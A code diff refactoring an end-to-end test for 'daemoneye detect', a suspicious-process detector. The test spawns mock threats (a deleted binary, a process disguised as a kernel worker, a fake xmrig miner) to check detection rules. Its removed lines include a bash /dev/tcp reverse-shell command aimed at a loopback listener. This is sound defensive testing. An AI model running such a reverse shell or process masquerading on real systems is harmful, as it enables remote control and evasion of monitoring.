@@ -1,35 +1,17 @@
 // End to end: real suspicious processes on this host and `daemoneye detect` on a live snapshot with the
 // built-in pack: each process must be reported by the right rule at the right severity.
-import {type ChildProcess, spawn} from 'node:child_process';
 import {copyFileSync, unlinkSync} from 'node:fs';
-import {createServer, type Server, type Socket} from 'node:net';
 import {join} from 'node:path';
 
 import {afterAll, beforeAll, describe, expect, it} from 'vitest';
 
 import type {Alert} from '../../src/models/alert.js';
 import {isolatedEnv, removeDir, runCli, tempDir} from '../helpers/cli.js';
+import {SuspectProcesses} from '../helpers/suspects.js';
 
 const dir = tempDir();
 const env = isolatedEnv(dir);
-const children: ChildProcess[] = [];
-const sockets: Socket[] = [];
-let server: Server | undefined;
-
-/** Start a long-lived process in its own session (no controlling terminal, its own process group). */
-function start(command: string, args: string[], argv0?: string): Promise<ChildProcess> {
-  return new Promise((resolve, reject) => {
-    const child = spawn(command, args, {detached: true, stdio: 'ignore', ...(argv0 === undefined ? {} : {argv0})});
-    children.push(child);
-    child.once('error', reject);
-    child.once('spawn', () => resolve(child));
-  });
-}
-
-function pidOf(child: ChildProcess): number {
-  if (child.pid === undefined) throw new Error('child has no pid');
-  return child.pid;
-}
+const suspects = new SuspectProcesses();
 
 let deletedPid = 0;
 let kworkerPid = 0;
@@ -41,29 +23,16 @@ beforeAll(async () => {
   // 1. A copy of sleep run from a temp directory, then deleted.
   const dropped = join(dir, 'updater');
   copyFileSync('/usr/bin/sleep', dropped);
-  deletedPid = pidOf(await start(dropped, ['600']));
+  deletedPid = await suspects.start(dropped, ['600']);
   unlinkSync(dropped);
   // 2. sleep started with argv[0] `[kworker/0:1]` (what `exec -a` does).
-  kworkerPid = pidOf(await start('/usr/bin/sleep', ['600'], '[kworker/0:1]'));
+  kworkerPid = await suspects.start('/usr/bin/sleep', ['600'], {argv0: '[kworker/0:1]'});
   // 3. A miner-like process: a copy of sleep named xmrig whose argv carries a stratum pool.
   const miner = join(dir, 'xmrig');
   copyFileSync('/usr/bin/sleep', miner);
-  minerPid = pidOf(await start(miner, ['600'], 'xmrig -o stratum+tcp://127.0.0.1:3333 --donate-level 1'));
-  // 4. A bash reverse shell to a loopback listener; `; true` keeps the outer bash -c from exec'ing the inner one.
-  const connected = new Promise<void>((resolve) => {
-    server = createServer((socket) => {
-      sockets.push(socket);
-      resolve();
-    });
-  });
-  const port = await new Promise<number>((resolve) => {
-    server?.listen(0, '127.0.0.1', () => {
-      const address = server?.address();
-      resolve(typeof address === 'object' && address !== null ? address.port : 0);
-    });
-  });
-  reverseShellPid = pidOf(await start('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`]));
-  await connected;
+  minerPid = await suspects.start(miner, ['600'], {argv0: 'xmrig -o stratum+tcp://127.0.0.1:3333 --donate-level 1'});
+  // 4. A bash reverse shell to a loopback listener.
+  reverseShellPid = await suspects.reverseShell();
 
   const detect = await runCli(['detect', '--format', 'json', '--verbose', '--log-format', 'json'], {env, timeoutMs: 120_000});
   expect(detect.code, detect.stderr).toBe(0);
@@ -79,16 +48,7 @@ beforeAll(async () => {
 }, 240_000);
 
 afterAll(() => {
-  for (const socket of sockets) socket.destroy();
-  server?.close();
-  for (const child of children) {
-    try {
-      // Each child leads its own process group: this also ends the inner bash of the reverse shell.
-      process.kill(-pidOf(child), 'SIGKILL');
-    } catch {
-      // already gone
-    }
-  }
+  suspects.stopAll();
   removeDir(dir);
 });
 
